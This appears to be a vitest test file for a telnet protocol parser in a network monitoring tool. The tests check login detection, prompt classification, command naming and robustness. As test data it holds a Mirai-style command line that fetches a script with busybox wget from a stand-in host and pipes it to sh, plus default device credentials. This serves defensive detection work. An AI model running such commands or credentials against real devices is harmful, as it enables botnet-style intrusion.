import { describe, expect, it } from "vitest";
import { OFFER, REPLY, samples, typedSession, wormSession } from "../../../test/props/samples/telnet.ts";
import { dialogue, drive, expectNoiseHarmless, expectSplitsAlike, latin1 } from "../../../test/props/stream-drive.ts";
import { PROBE_MORE, PROBE_NO, PROBE_YES } from "../define.ts";
import { commandNames, judgeTelnetLine } from "../telnet-prompt.ts";
import { telnet } from "./telnet.ts";

const listen = (...lines: string[]) => drive(telnet, dialogue(...lines));

describe("telnet", () => {
  it("follows a worm through its tries to its commands", () => {
    const told = listen(...wormSession);
    expect(told.logins).toEqual([
      { service: "telnet", user: "root", outcome: "failure", isDefault: true, isEmpty: false, isClearText: true },
      { service: "telnet", user: "root", outcome: "success", isDefault: true, isEmpty: false, isClearText: true },
    ]);
    expect(told.events).toEqual([
      { user: "root", isLoggedIn: true, commands: ["enable"] },
      { user: "root", isLoggedIn: true, commands: ["enable", "/bin/busybox", "MIRAI", "cd", "wget"] },
    ]);
  });

  it("follows one who types key by key, and never shows the password", () => {
    const told = listen(...typedSession);
    expect(told.logins).toEqual([
      { service: "telnet", user: "admin", outcome: "success", isDefault: false, isEmpty: false, isClearText: true },
    ]);
    expect(told.events).toEqual([{ user: "admin", isLoggedIn: true, commands: ["exit"] }]);
    expect(JSON.stringify(told)).not.toContain("secret7");
  });

  it("takes a password without a user, and none at all", () => {
    expect(
      listen("< User Access Verification\r\n\r\nPassword: ", "> cisco\r\n", "< \r\nSwitch>", "> enable\r\n").logins,
    ).toEqual([
      { service: "telnet", user: "", outcome: "success", isDefault: true, isEmpty: false, isClearText: true },
    ]);
    expect(listen("< login: ", "> root\r\n", "< Password: ", "> \r\n", "< \r\n# ", "> id\r\n").logins[0]).toMatchObject(
      {
        outcome: "success",
        isEmpty: true,
        isDefault: true,
      },
    );
    const open = listen(OFFER, REPLY, "< \r\nBusyBox v1.01\r\n# ", "> id\r\n");
    expect(open.logins[0]).toMatchObject({ user: "", outcome: "success", isEmpty: true });
    expect(open.events[0]).toMatchObject({ isLoggedIn: true, commands: ["id"] });
  });

  it("sees a refusal in a new question, in words, and leaves a silent end open", () => {
    expect(listen("< Password: ", "> abc\r\n", "< \r\nPassword: ", "> def\r\n").logins.map((l) => l.outcome)).toEqual([
      "failure",
      "unknown",
    ]);
    expect(
      listen("< login: ", "> a\r\n", "< Password: ", "> b\r\n", "< \r\n% Access denied\r\n").logins[0]?.outcome,
    ).toBe("failure");
    expect(listen("< login: ", "> a\r\n", "< Password: ", "> b\r\n", "< \r\nWelcome\r\n> ").logins[0]?.outcome).toBe(
      "success",
    );
    expect(
      listen("< login: ", "> a\r\n", "< Password: ", "> b\r\n", `< ${"menu line\r\n".repeat(400)}`).logins[0]?.outcome,
    ).toBe("success");
  });

  it("stops after sixteen commands", () => {
    const told = listen(
      "< login: ",
      "> a\n",
      "< Password: ",
      "> b\n",
      "< # ",
      ...Array.from({ length: 30 }, (_, i) => `> c${i}\n`),
    );
    expect(told.isDone).toBe(true);
    expect(told.events.at(-1)?.commands).toHaveLength(16);
  });

  it("judges server lines", () => {
    expect(judgeTelnetLine("Last login: Mon Nov 2", false)).toBe("text");
    expect(judgeTelnetLine("OpenWrt login: ", true)).toBe("user-prompt");
    expect(judgeTelnetLine("Password for admin: ", true)).toBe("password-prompt");
    expect(judgeTelnetLine("There was 1 failed login attempt since the last successful login.", false)).toBe("text");
    expect(judgeTelnetLine("Login incorrect", false)).toBe("refusal");
    expect(judgeTelnetLine("#############", true)).toBe("text");
    expect(judgeTelnetLine("[admin@MikroTik] > ", true)).toBe("shell");
  });

  it("names commands, not their arguments", () => {
    expect(commandNames("cd /tmp || cd /var; /bin/busybox wget http://x -O - | sh", 16)).toEqual([
      "cd",
      "cd",
      "/bin/busybox",
      "wget",
      "sh",
    ]);
    expect(commandNames("  ", 16)).toEqual([]);
  });

  it("probes: negotiation anywhere, prompts on its ports", () => {
    const probe = (text: string, serverPort: number) =>
      telnet.probe(
        { buf: latin1(text), off: 0, end: text.length, toServer: false, atUs: 0 },
        { clientPort: 1, serverPort },
      );
    expect(probe("\xff\xfd\x01", 8888)).toBe(PROBE_YES);
    expect(probe("\xff\xd8\xff", 8888)).toBe(PROBE_NO);
    expect(probe("router login: ", 23)).toBe(PROBE_YES);
    expect(probe("Welcome\r\n", 23)).toBe(PROBE_MORE);
    expect(probe("\x00\x00\x00\x01", 23)).toBe(PROBE_NO);
  });

  it("never throws and does not depend on how the stream is cut", () => {
    expectSplitsAlike(telnet, samples);
    expectNoiseHarmless(telnet, samples, [
      "login: ",
      "Password: ",
      "# ",
      "incorrect\r\n",
      "\xff\xfa",
      "\xff\xf0",
      "\xff\xff",
      "\x7f",
    ]);
  });
});
